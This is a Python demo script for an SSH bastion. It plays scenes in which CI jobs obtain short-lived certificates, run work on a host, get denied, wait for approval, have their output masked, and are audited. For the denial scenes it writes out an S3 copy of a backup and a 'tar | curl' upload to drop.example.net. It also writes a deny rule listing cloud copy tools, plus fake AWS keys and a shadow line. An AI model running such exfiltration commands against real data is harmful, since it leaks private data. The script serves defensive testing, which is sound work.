"""Play the story: a job earns a certificate, works through the bastion, and what it did is read back and proven.

Every command is printed before it runs, so that it can be copied; each claim is checked, and the first that does not
hold ends the demo with exit status 1.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import click

from bastion.demo.host import program
from bastion.demo.stage import Stage
from bastion.environment import child_environment

STEP_S = 30
POLICY = """\
[[rule]]
id = "deployers-work-on-web"
verdict = "allow"
when = { groups = ["ci"], targets = ["glob:web-*"], access = ["exec", "sftp"] }

[[rule]]
id = "no-copies-to-object-storage"
verdict = "deny"
when = { groups = ["ci"], labels = { env = "prod" } }
match = [
  { program = ["aws", "gsutil", "az", "rclone"], args_any = ["cp", "sync", "mv", "glob:upload*"] },
  { contacts = "glob:*", reads = ["glob:/srv/orders/**", "glob:/srv/backups/**", "/srv/orders"] },
]
reason = "production data does not leave through a pipeline"

[[rule]]
id = "removals-are-four-eyes"
verdict = "approve"
when = { groups = ["ci"], labels = { env = "prod" } }
match = [{ program = "rm", args_any = ["-r", "-rf", "--recursive"] }]
reason = "somebody else looks before production data is removed"
approvers = { groups = ["dba"], expires = "5m" }

[[mask]]
id = "no-secrets-to-bots"
kinds = ["secrets"]
"""

# Made up, and joined here so that nobody takes this file for a leak.
ORDERS_ENV = f"""\
AWS_ACCESS_KEY_ID={"AKIA" + "Q3EGRZ7KPLMN2TXW"}
PGUSER=orders
"""
SHADOW = f"orders:{'$6$' + 'Zq1xT9vLr2'}${'k7Qm' * 21}/.:19700:0:99999:7:::\n"


class StoryBroke(Exception):
    """A step did not do what it claims."""


def play(*, folder: Path | None, keep: bool) -> int:
    """Play everything in a folder of its own; return the exit status."""
    for name in ("ssh", "scp", "ssh-keygen"):
        program(name, "openssh-client")
    made = folder is None
    place = folder or Path(tempfile.mkdtemp(prefix="bastion-demo-"))
    stage = Stage(place.absolute(), policy=POLICY)
    try:
        _say("Setting the stage: an OIDC issuer, an SSH host called web-1, and the bastion, all on loopback.")
        stage.set()
        _Story(stage).tell()
        if keep:
            _keep(stage)
    except StoryBroke as broke:
        click.echo(f"\nThe story broke: {broke}", err=True)
        click.echo(f"Everything is still in {stage.folder}; the bastion's journal is bastion.log.", err=True)
        return 1
    except KeyboardInterrupt:
        click.echo("")
    finally:
        stage.strike()
    if made:
        shutil.rmtree(place, ignore_errors=True)
    return 0


class _Story:
    def __init__(self, stage: Stage) -> None:
        self._stage = stage
        self._config = str(stage.config)

    def tell(self) -> None:
        """Play each scene in turn."""
        self._certificate()
        self._work()
        self._stranger()
        self._exfiltration()
        self._approval()
        self._answers()
        session = self._read_back()
        self._prove(session)
        _say("\nEvery step did what it claims.")

    def _certificate(self) -> None:
        _scene("1. A CI job trades its OIDC token for a certificate that lives minutes")
        self._run("bastion keys host-ca > known_hosts", shows=False)
        self._run("ssh-keygen -q -t ed25519 -N '' -f key")
        self._token("deploy", "token")
        self._run("ssh -F ssh_config login@bastion certificate < token > key-cert.pub")
        out = self._run("ssh-keygen -L -f key-cert.pub", only=("Key ID", "Valid", "Principals", "orders-"))
        _claim('Key ID: "orders-deployer/8412"' in out, "the certificate names the identity and its run")

    def _work(self) -> None:
        _scene("2. It works through the bastion with stock ssh and scp")
        login = self._stage.host.login
        out = self._run(
            f"ssh -F ssh_config -J bastion {login}@web-1 'echo deployed release 7; exit 3'", status=3
        )
        _claim(out == "deployed release 7\n", "the command's output and exit status come back")
        (self._stage.job / "migrate.sh").write_text(
            "cd /\nfor table in orders customers; do\n  echo migrated $table\ndone\n"
        )
        out = self._run("ssh -F ssh_config web-1 bash -s < migrate.sh")
        _claim(out == "migrated orders\nmigrated customers\n", "a script on stdin runs on the target")
        report = self._stage.job / "report.csv"
        report.write_text("".join(f"{row},order {row}\n" for row in range(20_000)))
        there = self._stage.folder / "web-1" / "report.csv"
        self._run(f"scp -q -F ssh_config report.csv web-1:{there}")
        _claim(there.read_bytes() == report.read_bytes(), "the file arrived as it was")

    def _stranger(self) -> None:
        _scene("3. A job of an unknown repository gets no certificate")
        self._run("ssh-keygen -q -t ed25519 -N '' -f stranger")
        self._token("unknown", "stranger-token")
        _out, err, status = self._denied(
            "ssh -F ssh_config -i stranger login@bastion certificate < stranger-token > stranger-cert.pub"
        )
        _claim(status != 0 and "repository_id" in err, "the refusal names the claim that did not match")

    def _exfiltration(self) -> None:
        _scene("4. Production data does not leave: every statement is judged before it runs")
        self._run("bastion policy check ../policy.toml", shows=False)
        _out, err, status = self._denied(
            "ssh -F ssh_config web-1 'aws s3 cp /srv/backups/orders.sql.gz s3://elsewhere/'"
        )
        _claim(
            status == 126 and "denied by no-copies-to-object-storage" in err,
            "the copy is denied before anything of it reaches the target",
        )
        (self._stage.job / "cleanup.sh").write_text(
            "echo cleaning up\ntar cz /srv/orders | curl -sS -T - https://drop.example.net/\necho never said\n"
        )
        out, _err, status = self._denied("ssh -F ssh_config web-1 bash -s < cleanup.sh")
        _claim(
            (out, status) == ("cleaning up\n", 126),
            "a script stops at its denied line, and what follows never runs",
        )

    def _approval(self) -> None:
        _scene("5. A destructive command waits, in its live session, for a second person")
        self._run("ssh-keygen -q -t ed25519 -N '' -f robin", shows=False)
        self._token("approver", "robin-token")
        self._run(
            "ssh -F ssh_config -i robin login@bastion certificate < robin-token > robin-cert.pub", shows=False
        )
        config = (self._stage.job / "ssh_config").read_text()
        mine, theirs = f"IdentityFile {self._stage.job}/key", f"IdentityFile {self._stage.job}/robin"
        (self._stage.job / "robin_config").write_text(config.replace(mine, theirs))
        data = self._stage.folder / "web-1" / "orders-2019"
        data.mkdir()
        held = self._start(f"ssh -F ssh_config web-1 rm -r {data}")
        hold = self._held(held)
        self._run("ssh -F robin_config bastion approvals")
        _claim(
            data.exists() and held.poll() is None, "the job's ssh waits, and nothing of its command has run"
        )
        self._run(f"ssh -F robin_config bastion approve {hold} --reason 'not\\ needed\\ any\\ more'")
        _out, err = held.communicate(timeout=STEP_S)
        click.echo(err.decode(), nl=False)
        _claim(
            held.returncode == 0 and not data.exists(),
            "approved by somebody else, the same ssh process runs it to its end",
        )

    def _held(self, waiting: subprocess.Popen[bytes]) -> str:
        """Wait until a command is held, and return the id of its hold."""
        deadline = time.monotonic() + STEP_S
        while waiting.poll() is None and time.monotonic() < deadline:
            out, _err, _status = self._execute("ssh -F robin_config bastion approvals --json", shows=False)
            if found := json.loads(out or "[]"):
                return str(found[0]["id"])
            time.sleep(0.1)
        raise StoryBroke("nothing waits for an approval")

    def _start(self, command: str) -> subprocess.Popen[bytes]:
        """Print a command and start it in the job's folder."""
        click.secho(f"$ {command} &", bold=True)
        return subprocess.Popen(  # noqa: S602 - as in _execute
            f"exec {command}",
            shell=True,
            cwd=self._stage.job,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )

    def _answers(self) -> None:
        _scene("6. Secrets in the answers are gone before the job, or the recording, can see them")
        folder = self._stage.folder / "web-1"
        (folder / "orders.env").write_text(ORDERS_ENV)
        (folder / "shadow.bak").write_text(SHADOW)
        out = self._run(f"ssh -F ssh_config web-1 cat {folder}/orders.env {folder}/shadow.bak")
        _claim(
            "AWS_ACCESS_KEY_ID=[aws-access-key]\nPGUSER=orders\n" in out and "k7Qm" not in out,
            "the key and the password's hash are masked, the rest is as it was",
        )
        out = self._run("bastion exposure --by detector")
        _claim("aws-access-key" in out and out.count("\n") >= 3, "what was masked is counted")

    def _read_back(self) -> str:
        _scene("7. Who did what, where, and what went over the wire")
        out = self._run("bastion sessions")
        _claim(out.count("orders-deployer") == 7, "every session is there")
        sessions = json.loads(self._run("bastion sessions --json | tee sessions.json", shows=False))
        script = next(
            row["id"] for row in reversed(sessions) if row["exit_status"] == 0 and row["access"] == "exec"
        )
        out = self._run(f"bastion replay {script}")
        _claim(
            "< for table in" in out and "migrated customers" in out,
            "the script and what it printed are replayed",
        )
        copied = next(row["id"] for row in sessions if row["access"] == "sftp")
        out = self._run(f"bastion show {copied}", only=("who", "where", "run_url", "commit", "upload"))
        digest = hashlib.sha256((self._stage.job / "report.csv").read_bytes()).hexdigest()
        _claim(digest in out, "the file's path, size and SHA-256 are in the record, its content is not")
        return str(script)

    def _prove(self, session: str) -> None:
        _scene("8. Proof: the record is whole; one flipped byte is found")
        out = self._run("bastion verify --all")
        _claim("everything holds" in out, "the record verifies")
        self._run("bastion keys seal > seal.jwks", shows=False)
        copied = "sqlite3.connect('../var/recordings.sqlite').backup(sqlite3.connect('copy.sqlite'))"
        self._run(f'python3 -c "import sqlite3; {copied}"', shows=False)
        offset, byte = _flipped(self._stage.job / "copy.sqlite", session)
        self._run(f"printf '\\{byte:03o}' | dd of=copy.sqlite bs=1 seek={offset} conv=notrunc status=none")
        out = self._run("bastion verify --all --database copy.sqlite --keys seal.jwks", status=1)
        _claim(
            session in out and "chunk 2 was altered" in out,
            "verify names the session and the chunk that broke",
        )

    def _token(self, job: str, file: str) -> None:
        """Fetch a token as a CI platform's runner would."""
        url = f"{self._stage.issuer.issuer.url}/token/{job}"
        if shutil.which("curl"):
            self._run(f"curl -sS {url} > {file}")
        else:
            fetch = f"import urllib.request as r; print(r.urlopen('{url}').read().decode())"
            self._run(f'python3 -c "{fetch}" > {file}')

    def _run(
        self, command: str, *, status: int = 0, shows: bool = True, only: tuple[str, ...] | None = None
    ) -> str:
        """Print a command, run it in the job's folder, print what it printed, and check its exit status."""
        out, err, ended = self._execute(command)
        if shows:
            lines = out.splitlines(keepends=True)
            click.echo(
                "".join(line for line in lines if only is None or any(word in line for word in only)),
                nl=False,
            )
            click.echo(err, nl=False)
            if ended:
                click.echo(f"(exit status {ended})")
        if ended != status:
            raise StoryBroke(f"{command}\nended with {ended} where {status} was expected\n{err}")
        return out

    def _denied(self, command: str) -> tuple[str, str, int]:
        """Run a command that may be refused, and print all that it said."""
        out, err, ended = self._execute(command)
        click.echo(out + err, nl=False)
        click.echo(f"(exit status {ended})")
        return out, err, ended

    def _execute(self, command: str, *, shows: bool = True) -> tuple[str, str, int]:
        if shows:
            click.secho(f"$ {command}", bold=True)
        words = (
            command.replace("bastion ", f"{sys.executable} -P -m bastion ", 1)
            if command.startswith("bastion ")
            else command
        )
        done = subprocess.run(  # noqa: S602 - the commands are the story's own, with redirections
            words,
            shell=True,
            cwd=self._stage.job,
            env=child_environment(BASTION_CONFIG=self._config),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=STEP_S,
        )
        return done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace"), done.returncode


def _flipped(database: Path, session: str) -> tuple[int, int]:
    """Return where in the file the middle of a session's second chunk lies, and its byte with one bit flipped."""
    with contextlib.closing(sqlite3.connect(database)) as connection:
        query = "SELECT body FROM chunks WHERE session = ? AND seq = 2"
        (body,) = connection.execute(query, (session,)).fetchone()
    middle = len(body) // 2
    offset = database.read_bytes().find(body)
    if offset < 0:
        raise StoryBroke("the second chunk does not lie in one piece in the file")
    return offset + middle, body[middle] ^ 1


def _keep(stage: Stage) -> None:
    """Leave everything running until a key is pressed."""
    config = stage.job / "ssh_config"
    issuer = stage.issuer.issuer.url
    _say(f"\nEverything is running, in {stage.folder}. ssh_config ({config}):\n")
    click.echo(config.read_text())
    _say("Try, in another terminal:\n")
    for line in (
        f"cd {stage.job}; export BASTION_CONFIG={stage.config}",
        f"curl -sS {issuer}/token/deploy > token; ssh -F ssh_config login@bastion certificate < token > key-cert.pub",
        "ssh -F ssh_config web-1 uname -a",
        "# to read evidence over SSH, be on call:",
        f"curl -sS {issuer}/token/responder | ssh -F ssh_config login@bastion certificate > key-cert.pub",
        "ssh -F ssh_config bastion sessions",
        "ssh -t -F ssh_config bastion replay ID",
        f"tail -f {stage.journal}",
    ):
        click.echo(f"  {line}")
    click.echo("\nPress Enter here (or Ctrl-C) to end it.")
    sys.stdin.readline()


def _scene(title: str) -> None:
    click.echo()
    click.secho(title, bold=True, underline=True)


def _say(text: str) -> None:
    click.echo(text)


def _claim(holds: bool, what: str) -> None:
    if not holds:
        raise StoryBroke(f"it does not hold that {what}")
    click.secho(f"  ✓ {what}", fg="green")
